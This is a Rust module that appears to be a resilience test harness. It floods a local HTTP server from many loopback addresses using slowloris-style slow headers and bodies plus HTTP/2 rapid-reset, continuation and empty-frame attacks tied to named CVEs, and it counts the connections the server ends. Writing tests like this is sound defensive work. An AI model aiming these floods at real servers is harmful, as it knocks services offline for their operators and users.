//! What strangers may do to a door, without ever sending a request that it could answer.

mod frames;

use std::net::{Ipv4Addr, SocketAddr};
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

use chassis::shutdown::Tasks;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};
use tokio::time::sleep;

/// The connections that come from one address of the loopback network; a door lets it have more.
const OF_ONE_ADDRESS: usize = 50;
/// How often a slow one sends a byte.
const DRIP: Duration = Duration::from_millis(500);
/// How often a fast one sends a burst of frames, so that it takes the door's time and not all of its own machine's.
const BURST: Duration = Duration::from_millis(20);

/// A way to harm a door.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Flood {
    /// Headers that come a byte at a time.
    SlowHeaders,
    /// Bodies that come a byte at a time.
    SlowBodies,
    /// Requests that are taken back as soon as they are sent (CVE-2023-44487).
    RapidReset,
    /// Headers that are continued without end (CVE-2024-27316).
    Continuations,
    /// A body of frames that hold nothing (CVE-2019-9518).
    EmptyData,
}

/// Strangers at work, until this is dropped.
pub struct Attack {
    tasks: Tasks,
    seen: Arc<Seen>,
}

#[derive(Default)]
struct Seen {
    connected: AtomicUsize,
    open: AtomicUsize,
    most_open: AtomicUsize,
    ended: AtomicUsize,
    bytes: AtomicUsize,
}

/// What a stranger says.
struct Words {
    first: Vec<u8>,
    /// Again and again, by how often it has been said.
    again: fn(u32) -> Vec<u8>,
    pause: Duration,
}

impl Flood {
    /// All, and how many connections each is tried with.
    pub const ALL: [(Flood, usize); 5] = [
        (Flood::SlowHeaders, 2000),
        (Flood::SlowBodies, 2000),
        (Flood::RapidReset, 20),
        (Flood::Continuations, 20),
        (Flood::EmptyData, 20),
    ];

    /// Begins, from many addresses, and goes on: a connection that the door ends is opened anew.
    pub fn begin(self, door: &str, connections: usize) -> Attack {
        let door: SocketAddr = door.trim_start_matches("http://").parse().expect("an address");
        let attack = Attack { tasks: Tasks::new(), seen: Arc::default() };
        for number in 0..connections {
            let address = number / OF_ONE_ADDRESS;
            let from = Ipv4Addr::new(127, 9, (address / 250) as u8, (address % 250) as u8 + 1);
            let (seen, stop) = (attack.seen.clone(), attack.tasks.token());
            attack.tasks.spawn("stranger", async move {
                stop.run_until_cancelled(async {
                    loop {
                        self.come(from, door, &seen).await;
                        sleep(BURST).await;
                    }
                })
                .await;
            });
        }
        attack
    }

    async fn come(self, from: Ipv4Addr, door: SocketAddr, seen: &Seen) {
        let socket = TcpSocket::new_v4().expect("a socket");
        socket.bind((from, 0).into()).expect("the whole loopback network is this machine's");
        let Ok(mut stream) = socket.connect(door).await else { return };
        seen.enter();
        // the door ends it; what it says before is not listened to
        let _ = self.talk(&mut stream, seen).await;
        seen.leave();
    }

    async fn talk(self, stream: &mut TcpStream, seen: &Seen) -> std::io::Result<()> {
        let (mut read, mut write) = stream.split();
        let Words { first, again, pause } = self.words();
        let talk = async {
            write.write_all(&first).await?;
            for round in 0.. {
                let words = again(round);
                write.write_all(&words).await?;
                seen.bytes.fetch_add(words.len(), Ordering::Relaxed);
                sleep(pause).await;
            }
            Ok(())
        };
        let listen = async {
            let mut heard = [0; 4096];
            while read.read(&mut heard).await? > 0 {}
            Ok(())
        };
        tokio::select! { ended = talk => ended, ended = listen => ended }
    }

    fn words(self) -> Words {
        let words = |first: Vec<u8>, again, pause| Words { first, again, pause };
        match self {
            Flood::SlowHeaders => {
                let head = "GET /api/v1/members HTTP/1.1\r\nhost: x\r\nx: ";
                words(head.into(), |_| vec![b'x'], DRIP)
            }
            Flood::SlowBodies => {
                let head = "POST /api/v1/logs HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\n\
                    content-length: 9999\r\n\r\n{";
                words(head.into(), |_| vec![b' '], DRIP)
            }
            Flood::RapidReset => words(frames::hello(), frames::taken_back, BURST),
            Flood::Continuations => words(frames::headers_begun(), |_| frames::continued(), BURST),
            Flood::EmptyData => words(frames::body_begun(), |_| frames::nothing(), BURST),
        }
    }
}

impl Seen {
    fn enter(&self) {
        self.connected.fetch_add(1, Ordering::Relaxed);
        let open = self.open.fetch_add(1, Ordering::Relaxed) + 1;
        self.most_open.fetch_max(open, Ordering::Relaxed);
    }

    fn leave(&self) {
        self.open.fetch_sub(1, Ordering::Relaxed);
        self.ended.fetch_add(1, Ordering::Relaxed);
    }
}

impl Attack {
    /// How many connections were open at once.
    pub fn most_open(&self) -> usize {
        self.seen.most_open.load(Ordering::Relaxed)
    }

    /// How many connections the door has ended.
    pub fn ended(&self) -> usize {
        self.seen.ended.load(Ordering::Relaxed)
    }

    /// How many bytes were sent.
    pub fn bytes(&self) -> usize {
        self.seen.bytes.load(Ordering::Relaxed)
    }
}

impl Drop for Attack {
    fn drop(&mut self) {
        self.tasks.token().cancel();
    }
}
